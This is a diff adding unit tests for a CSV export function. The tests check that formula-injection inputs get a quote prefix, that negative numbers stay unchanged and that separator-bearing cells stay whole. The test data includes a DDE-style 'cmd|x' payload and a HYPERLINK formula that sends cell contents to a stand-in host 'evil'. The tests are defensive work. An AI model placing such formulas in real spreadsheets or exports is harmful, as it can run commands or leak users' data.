@@ -14,4 +14,32 @@ it('quotes what needs quotes', () => {
 
 it('never hands a formula to a spreadsheet program', () => {
   expect(text([['=1+1', '-5.00', '@x', '+91 98', '-x']])).toBe("\ufeff'=1+1,-5.00,'@x,'+91 98,'-x\r\n");
+  for (const formula of [
+    '-1+1',
+    '-2+3+cmd|x',
+    '-1.5*A1',
+    '--1',
+    '-1e3',
+    '- 5',
+    '\tx',
+    '\r=1',
+    '\n=1',
+    '\uff1d1',
+    '\uff0d1',
+  ]) {
+    const cell = text([[formula]]).slice(1, -2);
+    expect(cell.replace(/^"/, ''), formula).toMatch(/^'/);
+  }
+  expect(text([['-1+HYPERLINK("http://evil/?"&A2)']])).toBe('\ufeff"\'-1+HYPERLINK(""http://evil/?""&A2)"\r\n');
+});
+
+it('leaves negative numbers as they are', () => {
+  for (const number of ['-5', '-5.00', '-1.234', "-1'234", '-1 234']) {
+    expect(text([[number]]), number).toBe(`\ufeff${number}\r\n`);
+  }
+  expect(text([['-1,234.50']])).toBe('\ufeff"-1,234.50"\r\n');
+});
+
+it('keeps a cell whole where a semicolon or a tab parts cells', () => {
+  expect(text([['x;=1+1', 'a\tb', 'c']])).toBe('\ufeff"x;=1+1","a\tb",c\r\n');
 });
